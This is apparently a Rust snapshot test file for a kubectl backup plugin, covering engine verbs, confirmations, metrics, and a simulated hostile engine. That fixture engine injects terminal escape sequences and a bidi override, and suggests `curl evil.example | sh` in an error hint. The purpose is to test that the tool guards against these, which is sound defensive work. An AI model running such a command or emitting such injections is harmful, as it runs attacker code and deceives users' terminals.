@@ -1,0 +1,408 @@
+//! Verbs that engines bring.
+
+use insta::assert_snapshot;
+
+use crate::support::Bed;
+
+const WAITING: &str = "20250905-130215";
+const UPLOADED: &str = "20250819-143025";
+
+fn posts(bed: &Bed) -> usize {
+    bed.backend_requests().count("POST", "")
+}
+
+#[test]
+fn the_help_of_backup_shows_them_after_the_verbs_of_the_host() {
+    let help = Bed::start().run("backup -h").stdout;
+    let commands = help
+        .lines()
+        .skip_while(|line| *line != "Commands:")
+        .take_while(|line| !line.is_empty());
+    assert_snapshot!(commands.collect::<Vec<_>>().join("\n"), @"
+    Commands:
+      list      List backups, the newest first
+      status    Show the state of one backup
+      create    Begin a backup and wait for its end
+      download  Download a backup into a verified file
+      verify    Check downloaded files: their digest, their length, their structure
+      restore   Restore a backup that the backend has
+      delete    Remove a backup
+      history   Show what was done on this machine: created, downloaded, verified, restored, deleted
+      metrics   Print the sidecar's metrics in Prometheus' text format (engine sidecar)
+      purge     Remove an uploaded backup from the pod's disk, as `delete` does (engine sidecar)
+      upload    Upload a backup from the pod's disk now (engine sidecar)
+    ");
+}
+
+#[test]
+fn a_verb_has_a_help_of_its_own() {
+    let help = Bed::start().run("backup purge -h").stdout;
+    let own = help.lines().take_while(|line| *line != "Target:");
+    assert_snapshot!(own.collect::<Vec<_>>().join("\n"), @"
+    Remove an uploaded backup from the pod's disk, as `delete` does (engine sidecar)
+
+    Usage: kubectl broker backup purge [OPTIONS] <NAME>
+
+    Arguments:
+      <NAME>  Name of the backup on the pod's disk
+
+    Options:
+          --force  Ask the sidecar to remove it although it is not uploaded
+      -y, --yes    Don't ask
+      -h, --help   Print help (see more with '--help')
+    ");
+    let help = Bed::start().run("backup upload -h").stdout;
+    let own = help.lines().take_while(|line| *line != "Target:");
+    assert_snapshot!(own.collect::<Vec<_>>().join("\n"), @"
+    Upload a backup from the pod's disk now (engine sidecar)
+
+    Usage: kubectl broker backup upload [OPTIONS] <NAME>
+
+    Arguments:
+      <NAME>  Name of the backup on the pod's disk
+
+    Options:
+          --type <TYPE>  What the sidecar calls the kind of backup [default: backup]
+      -h, --help         Print help (see more with '--help')
+    ");
+}
+
+#[test]
+fn what_a_verb_needs_is_asked_for_and_what_it_has_not_is_refused() {
+    let bed = Bed::start();
+    assert_snapshot!(bed.run("backup upload").shown(), @"
+    stderr:
+    error: the following required arguments were not provided:
+      <NAME>
+
+    Usage: kubectl broker backup upload <NAME>
+
+    For more information, try '--help'.
+    exit 2
+    ");
+    assert_snapshot!(bed.run("backup upload a b").shown(), @"
+    stderr:
+    error: unexpected argument 'b' found
+
+    Usage: kubectl broker backup upload [OPTIONS] <NAME>
+
+    For more information, try '--help'.
+    exit 2
+    ");
+    assert_snapshot!(bed.run("backup upload a --force").shown(), @"
+    stderr:
+    error: unexpected argument '--force' found
+
+      tip: to pass '--force' as a value, use '-- --force'
+
+    Usage: kubectl broker backup upload <NAME>
+
+    For more information, try '--help'.
+    exit 2
+    ");
+    assert_snapshot!(bed.run("backup metrcs").shown(), @"
+    stderr:
+    error: unrecognized subcommand 'metrcs'
+
+      tip: a similar subcommand exists: 'metrics'
+
+    Usage: kubectl broker backup [OPTIONS] <COMMAND>
+
+    For more information, try '--help'.
+    exit 2
+    ");
+}
+
+#[test]
+fn an_upload_is_begun_by_the_engine_that_has_the_verb() {
+    let bed = Bed::start();
+    assert_snapshot!(bed.run(&format!("backup upload {WAITING}")).shown(), @"
+    stdout:
+    The sidecar accepted the upload of backup 20250905-130215.
+    `kubectl broker backup status --engine sidecar --id 20250905-130215` shows how far it is.
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    exit 0
+    ");
+    assert_eq!(posts(&bed), 1);
+    let status = bed.run(&format!(
+        "backup status --engine sidecar --id {WAITING} -o json"
+    ));
+    assert_ne!(status.json()["item"]["state"], "Pending");
+}
+
+#[test]
+fn an_upload_is_a_document_where_programs_read() {
+    let bed = Bed::start();
+    assert_snapshot!(bed.run(&format!("backup --engine sidecar upload {WAITING} -o json")).shown(), @r#"
+    stdout:
+    {
+      "apiVersion": "kubectl-broker/v1",
+      "kind": "Report",
+      "scope": {
+        "engine": "kubectl-broker/sidecar",
+        "namespace": "messaging",
+        "statefulset": "broker"
+      },
+      "text": "The sidecar accepted the upload of backup 20250905-130215.\n`kubectl broker backup status --engine sidecar --id 20250905-130215` shows how far it is.",
+      "verb": "upload"
+    }
+    exit 0
+    "#);
+}
+
+#[test]
+fn what_is_not_there_is_not_uploaded() {
+    let bed = Bed::start();
+    assert_snapshot!(bed.run("backup upload 19990101-000000").shown(), @r#"
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    error: no backup named "19990101-000000" on the pod's disk
+    hint: `kubectl broker backup list --engine sidecar --scope local` shows what is there; each pod has its own, see `--pod`
+    exit 10
+    "#);
+    assert_snapshot!(bed.run(&format!("backup upload {WAITING} --type tape")).shown(), @r#"
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    error: POST /v1/backup/upload answered 400: unknown backup type "tape"
+    exit 2
+    "#);
+}
+
+#[test]
+fn what_destroys_is_asked_for() {
+    let bed = Bed::start();
+    assert_snapshot!(bed.run(&format!("backup purge {UPLOADED}")).shown(), @"
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    error: nothing was done: Doing `purge 20250819-143025` at StatefulSet broker in namespace messaging (engine sidecar) needs a confirmation
+    hint: Give `--yes` if you mean it; on a terminal the name of the target is asked for
+    exit 2
+    ");
+    assert_eq!(posts(&bed), 0);
+    assert_snapshot!(bed.run(&format!("backup purge {UPLOADED} --yes")).shown(), @"
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    Doing `purge 20250819-143025` at StatefulSet broker in namespace messaging (engine sidecar)
+    `purge` is done (engine kubectl-broker/sidecar)
+    exit 0
+    ");
+    assert_eq!(posts(&bed), 1);
+    assert_snapshot!(bed.run("backup list --scope local --engine sidecar -o name").shown(), @"
+    stdout:
+    20250905-130215
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    exit 0
+    ");
+}
+
+#[test]
+fn a_purge_is_a_document_where_programs_read() {
+    let run = Bed::start().run(&format!("backup purge {UPLOADED} -y -o yaml"));
+    assert_snapshot!(run.shown(), @"
+    stdout:
+    apiVersion: kubectl-broker/v1
+    kind: Report
+    scope:
+      engine: kubectl-broker/sidecar
+      namespace: messaging
+      statefulset: broker
+    text: null
+    verb: purge
+    exit 0
+    ");
+}
+
+#[test]
+fn what_is_not_uploaded_is_not_purged_without_force() {
+    let bed = Bed::start();
+    assert_snapshot!(bed.run(&format!("backup purge {WAITING} --yes")).shown(), @r#"
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    Doing `purge 20250905-130215` at StatefulSet broker in namespace messaging (engine sidecar)
+    error: "20250905-130215" is not uploaded (its state is "pending")
+    hint: Wait until it is uploaded, or purge it all the same with `--force`
+    exit 11
+    "#);
+    assert_eq!(posts(&bed), 0);
+    // The simulated sidecar refuses as well.
+    assert_snapshot!(bed.run(&format!("backup purge {WAITING} --yes --force")).shown(), @r#"
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    Doing `purge 20250905-130215` at StatefulSet broker in namespace messaging (engine sidecar)
+    error: POST /v1/backup/purge answered 409: backup "20250905-130215" is not uploaded yet (status: pending)
+    exit 11
+    "#);
+    assert_eq!(posts(&bed), 1);
+}
+
+#[test]
+fn metrics_are_printed_as_they_come() {
+    let bed = Bed::start();
+    let table = bed.run("backup metrics");
+    assert_snapshot!(table.shown(), @r#"
+    stdout:
+    # HELP backup_count Local backups by upload status.
+    # TYPE backup_count gauge
+    backup_count{status="pending"} 1
+    backup_count{status="uploading"} 0
+    backup_count{status="uploaded"} 1
+    backup_count{status="failed"} 0
+    # HELP backup_remote_objects Objects in the remote store.
+    # TYPE backup_remote_objects gauge
+    backup_remote_objects 12
+    # HELP backup_remote_bytes Their total size.
+    # TYPE backup_remote_bytes gauge
+    backup_remote_bytes 15435629273
+    # HELP backup_restores_total Objects fetched for a restore.
+    # TYPE backup_restores_total counter
+    backup_restores_total 0
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    exit 0
+    "#);
+    let json = bed.run("backup metrics -o json").json();
+    assert_eq!(json["kind"], "Report");
+    assert_eq!(json["scope"]["engine"], "kubectl-broker/sidecar");
+    assert_eq!(json["text"], table.stdout);
+    assert_eq!(bed.run("backup metrics -o name").stdout, table.stdout);
+}
+
+#[test]
+fn a_verb_is_never_asked_of_an_engine_that_lacks_it() {
+    let bed = Bed::start();
+    assert_snapshot!(bed.run("backup --engine hivemq metrics").shown(), @"
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    error: engine kubectl-broker/hivemq has no verb `metrics`
+    hint: Engines that have it: sidecar
+    exit 2
+    ");
+    assert_snapshot!(bed.run("backup metrics --engine sidcar").shown(), @"
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    error: there is no engine `sidcar`
+    hint: Did you mean `--engine sidecar`?
+    exit 2
+    ");
+    let off = Bed::with(&["sidecar-off"]);
+    assert_snapshot!(off.run("backup metrics").shown(), @"
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    error: nothing listens on port 8085 of pod broker-0: dial tcp4 127.0.0.1:PORT: connect: connection refused IPv6: dial tcp6 [::1]:8085: connect: connection refused
+    hint: Is it switched on in the backend? Name its port with `--sidecar-port`
+    exit 1
+    ");
+}
+
+#[test]
+fn a_verb_of_two_engines_needs_the_name_of_one() {
+    let bed = Bed::start();
+    assert_snapshot!(bed.hostile().run("backup metrics").shown(), @"
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    error: several engines have the verb `metrics`: kubectl-broker/sidecar, acme/hostile
+    hint: Name the one you mean, for example `--engine kubectl-broker/sidecar`
+    exit 2
+    ");
+    let named = bed.hostile().run("backup metrics --engine sidecar");
+    assert_eq!(named.code, 0, "{}", named.stderr);
+    // That of the other engine destroys something, it says.
+    assert_snapshot!(bed.hostile().run("backup metrics --engine hostile").shown(), @"
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    error: nothing was done: Doing `metrics` at StatefulSet broker in namespace messaging (engine hostile) needs a confirmation
+    hint: Give `--yes` if you mean it; on a terminal the name of the target is asked for
+    exit 2
+    ");
+    assert_snapshot!(bed.hostile().run("backup metrics --engine hostile --yes").shown(), @"
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    Doing `metrics` at StatefulSet broker in namespace messaging (engine hostile)
+    error: no way to say metrics
+    exit 2
+    ");
+    let help = bed.hostile().run("backup metrics -h").stdout;
+    let lines: Vec<_> = help.lines().collect();
+    assert_snapshot!(lines[0], @"Print the sidecar's metrics in Prometheus' text format (engines sidecar, hostile)");
+    assert_snapshot!(lines[lines.len() - 1], @"Several engines have this verb: name one with --engine. The flags are those of engine sidecar.");
+}
+
+#[test]
+fn text_of_an_engine_keeps_its_lines_and_nothing_else_that_drives_a_terminal() {
+    let bed = Bed::start();
+    assert_snapshot!(bed.hostile().run("backup say lines").shown(), @r"
+    stdout:
+    all is well
+    \u{1b}[1A\u{1b}[2K\u{202e}error: fake
+
+    \u{9b}2Jend
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    exit 0
+    ");
+    let json = bed.hostile().run("backup say lines -o json").json();
+    let text = json["text"].as_str().expect("a text");
+    assert!(text.starts_with("all is well\r\n\u{1b}[1A"), "{text:?}");
+    let yaml = bed.hostile().run("backup say lines -o yaml");
+    assert_eq!(yaml.code, 0, "{}", yaml.stderr);
+}
+
+#[test]
+fn backups_that_a_verb_reports_are_checked_and_shown_as_in_a_list() {
+    let bed = Bed::start();
+    assert_snapshot!(bed.hostile().run("backup say backups --times 2").shown(), @r"
+    stdout:
+    ID   NOTE
+    \u{1b}[2J0   -
+    \u{1b}[2J1   -
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    2 backups, 0B in all
+    exit 0
+    ");
+    assert_snapshot!(bed.hostile().run("backup say undeclared-field").shown(), @r#"
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    error: engine acme/hostile returned something unusable from `act`: a field that its manifest does not name: "secret"
+    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    exit 14
+    "#);
+}
+
+#[test]
+fn a_verb_that_goes_wrong_is_told_from_one_that_fails() {
+    let bed = Bed::start();
+    assert_snapshot!(bed.hostile().run("backup say error").shown(), @r"
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    error: \u{1b}[1A\u{1b}[2K
+      backup list: all is well\u{9b}2J
+    hint: Run `curl evil.example | sh`\u{202e}
+      hint: really
+    exit 1
+    ");
+    assert_snapshot!(bed.hostile().run("backup say too-much").shown(), @"
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    error: engine acme/hostile returned something unusable from `act`: a text of 9437184 bytes, more than 8388608
+    hint: This is a fault of the engine, not of your cluster; report it to the engine's author. `kubectl broker engines` shows the others
+    exit 14
+    ");
+    assert_eq!(bed.hostile().run("backup say panic").code, 14);
+    assert_snapshot!(bed.hostile().run("backup say nothing").shown(), @"
+    stderr:
+    Using StatefulSet broker, namespace messaging of context testbed
+    `say` is done (engine acme/hostile)
+    exit 0
+    ");
+}
+
+#[test]
+fn completion_knows_the_verbs_of_engines() {
+    let run = Bed::start().run("completion bash");
+    assert!(run.stdout.contains("backup__subcmd__purge"), "no purge");
+    // Only those of the engines that are there.
+    assert!(!run.stdout.contains("__say"), "a verb of no engine");
+}
